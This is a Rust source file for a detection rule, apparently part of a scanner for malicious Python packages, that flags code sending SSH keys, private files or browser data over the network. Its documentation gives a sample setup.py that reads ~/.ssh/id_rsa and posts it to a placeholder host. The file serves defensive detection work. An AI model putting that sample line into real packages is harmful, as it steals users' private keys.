//! ## What it detects
//!
//! Credentials, keys, private files, browser or wallet data that are sent over the network.
//!
//! ## Why it is bad
//!
//! This is theft. No package needs to send what lies in `~/.ssh` or a browser profile.
//!
//! ## Innocent lookalikes
//!
//! Clients of an API read a token from the environment and send it to that API; a token from an environment variable alone does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import requests, os
//! key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
//! requests.post('http://x.example.invalid', data=key)
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import requests, os
//! requests.post('http://x.example.invalid', headers={'Authorization': os.environ['MY_API_KEY']})
//! ```
//!
//! ## Good
//!
//! ```python pkg/client.py
//! import json, os, requests
//! def login():
//!     own = json.load(open(os.path.expanduser('~/.config/gcloud/own.json')))
//!     requests.post(own['server'], json={'token': own['token']})
//! ```

use fondaco_python::{Call, Constant, Taint, Value, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("secret-exfiltration"),
    title: "sends secrets out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let carried: Vec<(&str, Taint)> = sent(call).map(|(name, value)| (name, of(value))).collect();
        // Whoever keeps the key says there too whom it is for.
        let keeps_address = || address(call).is_some_and(is_of_the_file);
        // A key in the headers is how clients sign in, once somebody calls them.
        let asked = !call.trigger.is_some_and(Trigger::is_unasked);
        let is_secret = |(name, taint): &(&str, Taint)| {
            let is_sign_in = asked && signs_in(name);
            // A key from a variable beside what a caller had read: a client, and what it is for.
            let is_beside = asked && taint.has(Taint::SET_UP) && !taint.has(Taint::PRIVATE);
            let is_file = taint.has(Taint::FILE) && !is_beside || takes_path(&call.callee);
            taint.has(Taint::SECRET) && is_file && !is_sign_in || taint.has(Taint::BROWSER)
        };
        let is_own = asked && !carried.iter().any(|(_, taint)| taint.has(Taint::BROWSER)) && keeps_address();
        if carried.iter().any(is_secret) && !is_own && !goes_to_issuer(call) && !call.callee.starts_with("socket.socket().recv") {
            hits.call(unit, call, format!("{} of private files or browser data", call.callee));
        }
    }
}

/// Whether a request goes to whoever has issued the credentials of a cloud.
pub(super) fn goes_to_issuer(call: &Call) -> bool {
    const ISSUERS: [&str; 7] = [
        "signin.aws.amazon.com/",
        "sts.amazonaws.com/",
        "169.254.169.254/",
        "169.254.170.2/",
        "metadata.google.internal/",
        "oauth2.googleapis.com/",
        "login.microsoftonline.com/",
    ];
    // Known in whole: what stands before a part that is known may be anything.
    let known = address(call).and_then(Value::as_str).and_then(|text| text.split_once("://"));
    known.is_some_and(|(scheme, rest)| matches!(scheme, "http" | "https") && ISSUERS.iter().any(|issuer| rest.starts_with(issuer)))
}

/// Whether what is uploaded is said by its path.
pub(super) fn takes_path(callee: &str) -> bool {
    callee.ends_with(".upload_file") || callee.ends_with(".upload_from_filename")
}

/// The address that a call is made to, where its method has it first.
fn address(call: &Call) -> Option<&Value> {
    let named = call.kwargs.iter().find(|(name, _)| name == "url").map(|(_, value)| value);
    let at = usize::from(call.callee.ends_with(".request"));
    named
        .or_else(|| call.args.get(at))
        .filter(|_| !call.callee.contains("socket") && !call.callee.contains("smtp"))
}

/// Whether an address was read from a private file: no host in it is known here.
fn is_of_the_file(address: &Value) -> bool {
    address.taint.has(Taint::SECRET)
        && address.taint.has(Taint::FILE)
        && !address.taint.has(Taint::DECODED | Taint::DECRYPTED | Taint::NETWORK | Taint::ENVIRONMENT)
        && address.constant.is_none()
        && !address.texts().iter().any(|text| text.contains("://") || text.starts_with("http"))
}

/// Where a value and what it holds come from.
pub(super) fn of(value: &Value) -> Taint {
    match &value.constant {
        Some(Constant::List(items)) => items.iter().fold(value.taint, |taint, item| taint | of(item)),
        Some(Constant::Dict(items)) => items.iter().fold(value.taint, |taint, (_, item)| taint | of(item)),
        _ => value.taint,
    }
}
